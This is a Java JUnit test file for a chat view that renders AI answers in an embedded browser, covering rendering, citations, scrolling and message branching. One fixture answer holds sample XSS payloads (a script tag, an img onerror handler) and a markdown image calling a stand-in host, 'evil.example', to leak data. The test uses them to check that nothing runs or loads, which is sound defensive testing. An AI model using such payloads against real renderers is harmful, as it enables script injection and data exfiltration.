package org.tftsr.ui.chat.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import org.eclipse.jface.resource.ColorRegistry;
import org.eclipse.swt.browser.Browser;
import org.eclipse.swt.browser.LocationListener;
import org.eclipse.swt.graphics.RGB;
import org.eclipse.swt.widgets.Shell;
import org.eclipse.ui.PlatformUI;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tftsr.core.ai.Conversation;
import org.tftsr.core.ai.ConversationRepository;
import org.tftsr.core.ai.MessageRole;
import org.tftsr.core.ai.MessageState;
import org.tftsr.core.ai.ProviderRepository;
import org.tftsr.core.progress.Progress;
import org.tftsr.triage.TriageService;
import org.tftsr.ui.Services;
import org.tftsr.ui.testsupport.Workbench;

/** The page in the browser of the operating system, which a machine for tests has. What an answer says is data there too. */
class BrowserTest extends ChatTest {

	@TempDir
	private Path folder;

	private static final String ANSWER = """
			<name-1> is **locked** out.

			<script>window.hacked=1</script> <img src=x onerror="window.hacked=1">

			![leak](https://evil.example/?d=1) and [the manual](https://manual.example/pool)

			```sh
			kubectl get pods # all
			```
			""";

	private static final String AT_END = "innerHeight+scrollY>=document.documentElement.scrollHeight-2";

	@BeforeAll
	static void showPage() {
		System.setProperty("tftsr.chat.widget", "browser");
	}

	private static Browser browser() {
		return Workbench.find(Browser.class, one -> true).orElse(null);
	}

	private static Object evaluate(String expression) {
		return browser().evaluate("return " + expression + ";");
	}

	private void answer() throws Exception {
		ConversationRepository repository = Services.get(ConversationRepository.class);
		Conversation conversation = repository.create(issue, "Locked out", ProviderRepository.LOCAL_ID, null);
		UUID question = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), null, MessageRole.USER, "Why?",
				MessageState.COMPLETE, List.of())).id();
		repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), question, MessageRole.ASSISTANT, ANSWER,
				MessageState.COMPLETE, List.of()));
		Chat.settle();
	}

	private static void waitForText(String words) throws Exception {
		Workbench.waitFor("the page says " + words, () -> browser() != null
				&& String.valueOf(evaluate("document.body.innerText")).contains(words));
	}

	@Test
	void anAnswerIsDataInThePageToo() throws Exception {
		answer();
		Workbench.waitFor("there is an answer", () -> Workbench.link("Ask five whys").isEmpty());
		waitForText("kubectl get pods");
		assertEquals("undefined", Workbench.ui(() -> evaluate("typeof window.hacked")));
		assertEquals(Double.valueOf(0), Workbench.ui(() -> evaluate("document.images.length+document.scripts.length")));
		assertTrue(Workbench.ui(() -> String.valueOf(evaluate("document.body.innerText")).contains("<script>window.hacked=1</script>")));
		assertEquals("# all", Workbench.ui(() -> evaluate("document.querySelector('.k-COMMENT').textContent")));
		Chat.execute("org.tftsr.ui.chat.realValues", Map.of());
		try {
			Workbench.waitFor("the value is drawn",
					() -> "alice".equals(evaluate("(document.querySelector('.v')||{dataset:{}}).dataset.v")));
			assertFalse(Workbench.ui(() -> String.valueOf(evaluate("document.body.textContent")).contains("alice")));
		} finally {
			Chat.execute("org.tftsr.ui.chat.realValues", Map.of());
		}
		Workbench.display().asyncExec(() -> browser().execute("document.querySelector('a[title=\"https://manual.example/pool\"]').click();"));
		Shell dialog = Workbench.dialog("Open a Link");
		Workbench.press(dialog, "Cancel");
		Workbench.waitUntilClosed(dialog);
		waitForText("kubectl get pods");
	}

	@Test
	void aCitationTellsTheLogAndTheLineThatItLeadsTo() throws Exception {
		Path log = Files.writeString(folder.resolve("app.log"), "2026-03-01 10:00:00 INFO start\n2026-03-01 10:00:01 ERROR pool\n");
		Services.get(TriageService.class).importLog(issue, log, Progress.NONE);
		Chat.ask("What broke?");
		script.text("The pool [app.log:2], not [other.log:2].").end(MessageState.COMPLETE);
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("model-1");
		assertEquals("app.log, line 2", Workbench.ui(() -> evaluate("document.querySelector('.p a[href^=\"tftsr:follow\"]').title")));
		assertEquals(Double.valueOf(1), Workbench.ui(() -> evaluate("document.querySelectorAll('.p a[href^=\"tftsr:follow\"]').length")));
	}

	/** What the page was before stays in sight, with its links, until what it is to be is loaded. */
	@Test
	void aLinkOfAPageThatWasLoadedAnewDoesNothing() throws Exception {
		answer();
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("kubectl get pods");
		List<String> followed = new CopyOnWriteArrayList<>();
		String former = Workbench.ui(() -> {
			browser().addLocationListener(LocationListener.changingAdapter(event -> followed.add(event.location)));
			evaluate("document.body.former=1");
			return (String) evaluate("document.querySelector('a[href*=EDIT]').href");
		});
		Workbench.ui(() -> {
			ColorRegistry colours = PlatformUI.getWorkbench().getThemeManager().getCurrentTheme().getColorRegistry();
			colours.put("for a test " + UUID.randomUUID(), new RGB(1, 2, 3));
			return colours;
		});
		Workbench.waitFor("the page is loaded anew", () -> evaluate("document.body.former") == null);
		waitForText("kubectl get pods");
		Workbench.display().asyncExec(() -> browser().execute("location.href='" + former + "';"));
		Workbench.waitFor("the link was followed", () -> followed.contains(former));
		Workbench.ui(() -> Boolean.TRUE);
		assertEquals("", Workbench.ui(() -> Chat.input().getText()));
		clickInPage("a[href*=EDIT]");
		Workbench.waitFor("the question can be edited", () -> "Why?".equals(Chat.input().getText()));
	}

	@Test
	void anAnswerGrowsInThePage() throws Exception {
		Chat.ask("What broke?");
		script.text("The **pool** ");
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("The pool");
		script.text("is exhausted.").end(MessageState.COMPLETE);
		waitForText("The pool is exhausted.");
		Chat.settle();
		waitForText("model-1");
	}

	/** What stands in the page, message by message, without what stands above and below it. */
	private static String said() {
		return String.valueOf(evaluate("[...document.querySelectorAll('section')]"
				+ ".map(s=>[...s.querySelectorAll('.p')].map(p=>p.firstElementChild.innerText.trim()).join(' / ')).join('|')"));
	}

	private static void waitUntilSaid(String messages) throws Exception {
		Workbench.waitFor("the page has these messages and no others: " + messages,
				() -> browser() != null && messages.equals(said()));
	}

	@Test
	void anAnswerThatIsWholeIsNotDrawnAgain() throws Exception {
		Chat.ask("What broke?");
		script.text("The **pool**.\n\n- a leak\n\nMore");
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitUntilSaid("What broke?|The pool. / a leak / More");
		Workbench.ui(() -> evaluate("document.querySelectorAll('.p').forEach(p=>p.there='before')"));
		script.end(MessageState.COMPLETE);
		Chat.settle();
		waitForText("100 \u2192 20 tokens");
		assertEquals("before,before,before,before",
				Workbench.ui(() -> evaluate("[...document.querySelectorAll('.p')].map(p=>p.there).join()")));
		assertEquals("What broke?|The pool. / a leak / More", Workbench.ui(BrowserTest::said));
	}

	@Test
	void anotherAnswerTakesThePlaceOfTheFirstAndGivesItBack() throws Exception {
		Chat.ask("What broke?");
		script.text("The pool.").end(MessageState.COMPLETE);
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitUntilSaid("What broke?|The pool.");
		Chat.settle();
		Chat.ask("And then?");
		script.text("It was restarted.").end(MessageState.COMPLETE);
		waitUntilSaid("What broke?|The pool.|And then?|It was restarted.");
		Chat.settle();
		clickInPage("section:nth-of-type(2) .acts a");
		script.text("The disk.").end(MessageState.COMPLETE);
		waitUntilSaid("What broke?|The disk.");
		Chat.settle();
		waitForText("2/2");
		clickInPage(".branch a");
		waitUntilSaid("What broke?|The pool.|And then?|It was restarted.");
	}

	private static void clickInPage(String selector) throws Exception {
		Workbench.display().asyncExec(() -> browser().execute("document.querySelector('" + selector + "').click();"));
	}

	@Test
	void earlierMessagesComeInAboveWhatIsRead() throws Exception {
		ConversationRepository repository = Services.get(ConversationRepository.class);
		Conversation conversation = repository.create(issue, "Long", ProviderRepository.LOCAL_ID, null);
		UUID parent = null;
		for (int i = 1; i <= 90; i++) {
			parent = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), parent,
					i % 2 == 1 ? MessageRole.USER : MessageRole.ASSISTANT, "Message " + i + ".\n\n" + "word ".repeat(400),
					MessageState.COMPLETE, List.of())).id();
		}
		Chat.settle();
		waitForText("Message 90.");
		Workbench.waitFor("the end is in sight", () -> Boolean.TRUE.equals(evaluate(AT_END)));
		assertEquals(Double.valueOf(40), Workbench.ui(() -> evaluate("document.querySelectorAll('section').length")));
		Workbench.ui(() -> evaluate("scrollTo(0,0)"));
		double place = place("Message 51.");
		clickInPage("#earlier a");
		Workbench.waitFor("all of the next ones are there",
				() -> Double.valueOf(80).equals(evaluate("document.querySelectorAll('section').length")));
		Workbench.waitFor("they stand in their order", () -> said().replaceAll("( / )?(word ?)+", "").equals(IntStream.rangeClosed(11, 90)
				.mapToObj(number -> "Message " + number + '.').collect(Collectors.joining("|"))));
		assertEquals(place, place("Message 51."), 2);
	}

	/** How far below the top of the window a part begins. */
	private static double place(String words) throws Exception {
		return (Double) Workbench.ui(() -> evaluate("[...document.querySelectorAll('.p')].find(p=>p.firstElementChild.innerText.trim()==='" + words
				+ "').getBoundingClientRect().top"));
	}

	@Test
	void thePageStaysAtItsEndOnlyWhereItWasThere() throws Exception {
		Chat.ask("What broke?");
		script.text("word ".repeat(3_000) + "\n\nso far");
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("so far");
		Workbench.waitFor("the end is in sight", () -> Boolean.TRUE.equals(evaluate(AT_END)));
		Workbench.ui(() -> evaluate("scrollTo(0,40)"));
		script.text(" and\n\n" + "word ".repeat(500)).end(MessageState.COMPLETE);
		waitForText("100 \u2192 20 tokens");
		Chat.settle();
		assertEquals(Double.valueOf(40), Workbench.ui(() -> evaluate("scrollY")));
		Workbench.ui(() -> evaluate("scrollTo(0,document.documentElement.scrollHeight)"));
		Chat.ask("And then?");
		script.text("word ".repeat(900) + "\n\nlast").end(MessageState.COMPLETE);
		waitForText("last");
		Chat.settle();
		Workbench.waitFor("the end is in sight", () -> Boolean.TRUE.equals(evaluate(AT_END)));
	}
}
